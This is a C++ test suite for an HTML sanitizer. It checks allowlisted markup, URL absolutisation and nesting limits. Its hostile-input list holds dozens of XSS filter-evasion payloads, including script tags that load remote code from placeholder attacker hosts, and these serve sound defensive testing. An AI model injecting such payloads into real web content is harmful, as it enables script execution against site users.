// The sanitizer (extract/sanitize.h, extract/sanitize_tree.h): hostile HTML must come out with
// only allowlisted elements, attributes and URL schemes, checked by parsing the output back;
// ordinary article markup must keep its structure, text and (absolute) links.
#include <gumbo.h>

#include <catch2/catch.hpp>
#include <chrono>
#include <cstdint>
#include <map>
#include <random>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "base/ascii.h"
#include "extract/sanitize.h"
#include "extract/sanitize_rules.h"
#include "extract/sanitize_tree.h"

namespace tidings::extract {
namespace {

constexpr std::string_view kBase = "https://example.com/news/story.html";

// gumbo copies its stack of open elements into every parse error: without max_errors = 0 a
// deep tree takes quadratic time.
GumboOptions ParseOptions() {
  GumboOptions options = kGumboDefaultOptions;
  options.max_errors = 0;
  return options;
}

struct GumboDoc {
  explicit GumboDoc(std::string_view html) {
    GumboOptions options = ParseOptions();
    output = gumbo_parse_with_options(&options, html.data(), html.size());
  }
  ~GumboDoc() { gumbo_destroy_output(&kGumboDefaultOptions, output); }
  GumboDoc(const GumboDoc&) = delete;
  GumboDoc& operator=(const GumboDoc&) = delete;
  GumboOutput* output = nullptr;
};

// What may appear when the output is parsed again (html, head and body are gumbo's own).
const std::set<std::string, std::less<>> kAllowedTags = {
    "html",    "head",       "body",   "p",      "br",      "hr",      "h1",      "h2",
    "h3",      "h4",         "h5",     "h6",     "a",       "strong",  "b",       "em",
    "i",       "u",          "s",      "del",    "ins",     "sub",     "sup",     "small",
    "mark",    "q",          "cite",   "code",   "pre",     "kbd",     "samp",    "var",
    "dfn",     "blockquote", "ul",     "ol",     "li",      "dl",      "dt",      "dd",
    "table",   "thead",      "tbody",  "tfoot",  "tr",      "th",      "td",      "caption",
    "figure",  "figcaption", "img",    "time",   "abbr",    "span",    "div",     "section",
    "article", "aside",      "header", "footer", "details", "summary", "address", "bdi",
    "ruby",    "rt",         "rp",     "wbr"};

bool IsAllowedAttribute(std::string_view tag, std::string_view name) {
  static const std::map<std::string, std::set<std::string, std::less<>>, std::less<>> kByTag = {
      {"a", {"href", "rel"}},
      {"img", {"src", "alt", "width", "height"}},
      {"blockquote", {"cite"}},
      {"q", {"cite"}},
      {"del", {"cite", "datetime"}},
      {"ins", {"cite", "datetime"}},
      {"time", {"datetime"}},
      {"td", {"colspan", "rowspan"}},
      {"th", {"colspan", "rowspan", "scope"}},
      {"ol", {"start", "reversed"}},
      {"li", {"value"}},
      {"details", {"open"}}};
  if (name == "title" || name == "lang" || name == "dir") return true;
  auto it = kByTag.find(tag);
  return it != kByTag.end() && it->second.contains(name);
}

bool IsAllowedUrl(std::string_view url) {
  return url.starts_with("https://") || url.starts_with("http://") || url.starts_with("mailto:");
}

// Parses `html` and checks every element and attribute against the allowlist, iteratively.
void CheckSafe(const std::string& html) {
  INFO("output: " << html.substr(0, 2000));
  std::string lower = AsciiLower(html);
  for (std::string_view banned :
       {"<script", "<style", "<iframe", "<svg", "<math", "<object", "<embed", "<form", "<base",
        "<meta", "<link", "<template", "<input", "<button", "<textarea", "<noscript", "<!--"}) {
    CHECK(lower.find(banned) == std::string::npos);
  }
  GumboDoc doc(html);
  std::vector<const GumboNode*> pending = {doc.output->root};
  std::size_t elements = 0;
  while (!pending.empty()) {
    const GumboNode* node = pending.back();
    pending.pop_back();
    CHECK(node->type != GUMBO_NODE_COMMENT);
    if (node->type != GUMBO_NODE_ELEMENT) continue;
    ++elements;
    const GumboElement& element = node->v.element;
    std::string tag = gumbo_normalized_tagname(element.tag);
    REQUIRE(element.tag_namespace == GUMBO_NAMESPACE_HTML);
    REQUIRE(kAllowedTags.contains(tag));
    for (unsigned i = 0; i < element.attributes.length; ++i) {
      const auto* attribute = static_cast<const GumboAttribute*>(element.attributes.data[i]);
      std::string_view name = attribute->name, value = attribute->value;
      INFO("<" << tag << " " << name << "=\"" << value << "\">");
      REQUIRE(IsAllowedAttribute(tag, name));
      if (name == "href" || name == "src" || name == "cite") CHECK(IsAllowedUrl(value));
    }
    for (unsigned i = 0; i < element.children.length; ++i) {
      pending.push_back(static_cast<const GumboNode*>(element.children.data[i]));
    }
  }
  CHECK(elements >= 3);  // html, head, body at least: the output did parse
}

// OWASP filter-evasion style vectors, mutation-XSS nesting, entity and whitespace tricks.
const std::vector<std::string> kHostile = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=\"java\nscript:alert(1)\">x</a><a href=\"\x01javascript:alert(1)\">y</a>",
    std::string("<a href=\"java\0script:alert(1)\">nul</a>", 38),
    "<a href=\"&#x6A;avascript:alert(1)\">a</a><a href=\"javascript&colon;alert(1)\">b</a>",
    "<a href=\"vbscript:msgbox(1)\">v</a><a href=\"VBScript:x\">w</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">d</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=# onmouseover=\"alert('xxs')\"><img src=x onerror=alert(1)>",
    "<BODY ONLOAD=alert('XSS')><p>body</p>",
    "<iframe src=\"javascript:alert(1)\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\">",
    "<svg onload=alert(1)><svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<form action=\"javascript:alert(1)\"><button>go</button><input onfocus=alert(1) autofocus>",
    "<base href=\"javascript:alert(1)//\"><a href=\"x\">rel</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<div style=\"width: expression(alert('XSS'));\">css</div>",
    "<style>@import'http://evil/xss.css';</style><STYLE>li {list-style-image: url(x)}</STYLE>",
    "<p title=\"x&quot; onmouseover=&quot;alert(1)\">attr</p>",
    "<a href=\"http://x.com/\" onclick=\"alert(1)\" target=_blank rel=opener>x</a>",
    "<img src=\"http://x/a.png\" srcset=\"javascript:alert(1) 1x\" usemap=#m>",
    "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:x\">c</td></tr>",
    "<xmp><script>alert(1)</script></xmp><textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title><plaintext><script>alert(1)</script>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<!-- --!><script>alert(1)</script>--><!--><script>alert(2)</script>",
    "<a href=\"http://good/\">unclosed <b>bold <i>italic <table><td>cell",
    "<p <script>alert(1)</script>>",
    "<template><script>alert(1)</script></template><select><template><style><img src=x>",
    "<video><source onerror=\"alert(1)\"></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<div id=x class=y data-foo=\"javascript:alert(1)\" tabindex=1 accesskey=z>ids</div>",
    "<a href=\"javascript:alert(1)\"><a href=\"javascript:alert(2)\">nested</a></a>",
    "<img src=\"https://ok.example/a.png\" width=\"100%\" height=\"1;x\" alt='\"><script>'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href='javascript:alert(1)'>one</a><a href=`javascript:alert(1)`>two</a>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0\x80\xc3\x28<p>\xf0\x9f\x98</p>",
};

TEST_CASE("hostile HTML comes out with only allowlisted markup", "[sanitize]") {
  for (const std::string& html : kHostile) {
    INFO("input: " << html);
    std::string out = SanitizeHtml(html, kBase);
    CheckSafe(out);
    // Sanitizing again changes nothing: the output means to a parser what it meant to us.
    CHECK(SanitizeHtml(out, kBase) == out);
  }
}

TEST_CASE("random bytes never crash and stay safe", "[sanitize]") {
  std::mt19937 random(42);
  const std::string alphabet = "<>/=\"' abcdiprstv!-&#;:\0\x80\xff\n";
  for (int round = 0; round < 300; ++round) {
    std::string html;
    std::size_t length = random() % 400;
    for (std::size_t i = 0; i < length; ++i) html.push_back(alphabet[random() % alphabet.size()]);
    CheckSafe(SanitizeHtml(html, kBase) + "<p>x</p>");
  }
}

TEST_CASE("article markup keeps its structure and text", "[sanitize]") {
  std::string out = SanitizeHtml(
      "<article class=post><h1>Title</h1><p>Hello <a href=\"/about\">us</a> and <em>you</em>."
      "</p><ul><li>one<li>two</ul><figure><img src=\"img/a.png\" alt=\"A &amp; B\" width=640>"
      "<figcaption>Cap</figcaption></figure><blockquote cite=\"../q.html\">Quote</blockquote>"
      "<table><tr><th scope=col>h</th><td colspan=2>c</td></tr></table>"
      "<pre><code>x  &lt; y</code></pre><p>Mail <a href=\"mailto:a@b.c\">me</a>.</p></article>",
      kBase);
  CHECK(out ==
        "<article><h1>Title</h1><p>Hello <a href=\"https://example.com/about\" "
        "rel=\"nofollow noopener noreferrer\">us</a> and <em>you</em>.</p><ul><li>one</li>"
        "<li>two</li></ul><figure><img src=\"https://example.com/news/img/a.png\" "
        "alt=\"A &amp; B\" width=\"640\"><figcaption>Cap</figcaption></figure>"
        "<blockquote cite=\"https://example.com/q.html\">Quote</blockquote><table><tbody><tr>"
        "<th scope=\"col\">h</th><td colspan=\"2\">c</td></tr></tbody></table><pre><code>x  "
        "&lt; y</code></pre><p>Mail <a href=\"mailto:a@b.c\" rel=\"nofollow noopener "
        "noreferrer\">me</a>.</p></article>");
}

TEST_CASE("dropped, unwrapped and escaped content", "[sanitize]") {
  CHECK(SanitizeHtml("<p onclick=x>Hi<script>evil()</script></p>", kBase) == "<p>Hi</p>");
  // A disallowed link keeps its text; unknown and presentational tags keep theirs.
  CHECK(SanitizeHtml("<a href=\"javascript:x()\">text</a>", kBase) == "text");
  CHECK(SanitizeHtml("<x-card><font color=red><center>Hi</center></font></x-card>", kBase) == "Hi");
  CHECK(SanitizeHtml("<noscript><img src=\"/real.jpg\"></noscript>", kBase) ==
        "<img src=\"https://example.com/real.jpg\">");
  CHECK(SanitizeHtml("a<!-- secret -->b<style>p{}</style><iframe>x</iframe>c", kBase) == "abc");
  CHECK(SanitizeHtml("<p>a &lt; b &amp; \"c\" 'd' &gt;</p>", kBase) ==
        "<p>a &lt; b &amp; &quot;c&quot; &#39;d&#39; &gt;</p>");
  CHECK(SanitizeHtml("<p title='say \"hi\" & <go>'>t</p>", kBase) ==
        "<p title=\"say &quot;hi&quot; &amp; &lt;go&gt;\">t</p>");
  CHECK(SanitizeHtml("<svg><text>icon</text></svg><math><mi>x</mi></math>ok", kBase) == "ok");
  CHECK(SanitizeHtml("<ol start=3 reversed type=a><li value=x>i</ol>", kBase) ==
        "<ol start=\"3\" reversed><li>i</li></ol>");
  CHECK(SanitizeHtml("<p dir=rtl lang=ar-EG>t</p><p dir=x lang='a b'>u</p>", kBase) ==
        "<p dir=\"rtl\" lang=\"ar-EG\">t</p><p>u</p>");
  CHECK(SanitizeHtml("", kBase).empty());
}

TEST_CASE("URLs are made absolute and limited to http, https and mailto", "[sanitize]") {
  auto href = [](std::string_view html, std::string_view base) {
    std::string out = SanitizeHtml(html, base);
    std::size_t at = out.find("href=\"");
    return at == std::string::npos ? std::string()
                                   : out.substr(at + 6, out.find('"', at + 6) - at - 6);
  };
  CHECK(href("<a href=\"../a?b=1&amp;c=2#f\">x</a>", kBase) ==
        "https://example.com/a?b=1&amp;c=2#f");
  CHECK(href("<a href=\"//cdn.example.org/x\">x</a>", kBase) == "https://cdn.example.org/x");
  CHECK(href("<a href=\" \thttp://example.org/ \n\">x</a>", kBase) == "http://example.org/");
  CHECK(href("<a href=\"HTTPS://Example.org\">x</a>", kBase) == "HTTPS://Example.org");
  CHECK(href("<a href=\"#notes\">x</a>", kBase) == "https://example.com/news/story.html#notes");
  // A <base> in the fragment does not move links: the caller's base does.
  CHECK(href("<base href=\"https://evil.example/\"><a href=\"x\">x</a>", kBase) ==
        "https://example.com/news/x");
  // Without a usable base a relative link cannot be made absolute, so it goes.
  CHECK(href("<a href=\"/x\">x</a>", "").empty());
  CHECK(href("<a href=\"http:no-host\">x</a>", kBase).empty());
  CHECK(href("<a href=\"ftp://example.org/f\">x</a>", kBase).empty());
  CHECK(href("<a href=\"x\">x</a>", "javascript:alert(1)//").empty());
  CHECK(SanitizeHtml("<img src=\"javascript:x\" alt=a>", kBase).empty());
}

TEST_CASE("AppendSanitized writes one subtree after what the string holds", "[sanitize]") {
  GumboDoc doc(
      "<html><head><title>T</title></head><body><nav><a href=/>Home</a></nav>"
      "<main id=m><p>Body <b onclick=x>bold</b></p></main></body></html>");
  const GumboNode* body =
      static_cast<const GumboNode*>(doc.output->root->v.element.children.data[1]);
  const GumboNode* main = static_cast<const GumboNode*>(body->v.element.children.data[1]);
  REQUIRE(main->v.element.tag == GUMBO_TAG_MAIN);
  std::string out = "prefix:";
  AppendSanitized(main, kBase, &out);
  CHECK(out == "prefix:<p>Body <b>bold</b></p>");
  AppendSanitized(nullptr, kBase, &out);
  CHECK(out == "prefix:<p>Body <b>bold</b></p>");
}

std::string Repeat(std::string_view piece, std::size_t times) {
  std::string out;
  out.reserve(piece.size() * times);
  for (std::size_t i = 0; i < times; ++i) out.append(piece);
  return out;
}

// Deepest element nesting of `html` parsed by gumbo.
std::size_t Depth(const std::string& html) {
  GumboDoc doc(html);
  std::vector<std::pair<const GumboNode*, std::size_t>> pending = {{doc.output->root, 1}};
  std::size_t deepest = 0;
  while (!pending.empty()) {
    auto [node, depth] = pending.back();
    pending.pop_back();
    if (node->type != GUMBO_NODE_ELEMENT) continue;
    deepest = std::max(deepest, depth);
    for (unsigned i = 0; i < node->v.element.children.length; ++i) {
      pending.push_back(
          {static_cast<const GumboNode*>(node->v.element.children.data[i]), depth + 1});
    }
  }
  return deepest;
}

TEST_CASE("100,000 levels of nesting end quickly with bounded depth", "[sanitize][bounds]") {
  for (std::string_view opener : {"<div>", "<span>", "<ul><li>", "<b>", "<span><div></span>",
                                  "<blockquote><table><tr><td>", "<svg><g>", "<a>"}) {
    INFO(opener);
    auto started = std::chrono::steady_clock::now();
    std::string out = SanitizeHtml(Repeat(opener, 100000) + "deep", kBase);
    CHECK(std::chrono::steady_clock::now() - started < std::chrono::seconds(20));
    if (opener != "<svg><g>") CHECK(out.find("deep") != std::string::npos);
    CHECK(Depth(out) <= 300);
  }
}

TEST_CASE("the walk itself is iterative: a deep gumbo tree is fine", "[sanitize][bounds]") {
  GumboDoc doc(Repeat("<span>", 100000) + "deep");  // spans: gumbo nests these fast
  std::string out;
  AppendSanitized(doc.output->document, kBase, &out);
  CHECK(out.find("deep") != std::string::npos);
  CHECK(Depth(out) <= 300);
}

TEST_CASE("LimitHtmlNesting leaves ordinary pages alone", "[sanitize][bounds]") {
  std::string limited;
  std::string page = "<html><body>" + Repeat("<p>para<li>item<td>cell<br><img src=x>", 5000) +
                     "<script>var s = '" + Repeat("<div>", 2000) + "';</script><!--" +
                     Repeat("<div>", 2000) + "--><textarea>" + Repeat("<div>", 2000) +
                     "</textarea>" + Repeat("<div><span>x</span></div>", 5000) + "</body></html>";
  CHECK_FALSE(LimitHtmlNesting(page, 512, &limited));
  CHECK(limited.empty());
  CHECK(LimitHtmlNesting(Repeat("<div>", 1000), 512, &limited));
  CHECK(limited == Repeat("<div>", 512));
  // An end tag that cannot close its element (</span> past a <div>) does not hide the depth.
  CHECK(LimitHtmlNesting(Repeat("<span><div></span>", 1000), 512, &limited));
  CHECK(Depth(limited) <= 520);
  // Script text that a parser reads as script ("<!--<script>") is not markup either.
  CHECK(LimitHtmlNesting(Repeat("<div><script><!--<script></script></div></script>", 1000), 512,
                         &limited));
  CHECK(Depth(limited) <= 520);
}

TEST_CASE("output is bounded", "[sanitize][bounds]") {
  std::string huge = Repeat("<p>" + std::string(1000, 'x') + "</p>", 20000);  // 20 MB
  std::string out = SanitizeHtml(huge, kBase);
  CHECK(out.size() <= (16u << 20) + 4096);
  CHECK(out.size() >= (15u << 20));
  CHECK(out.ends_with("</p>"));
}

}  // namespace
}  // namespace tidings::extract
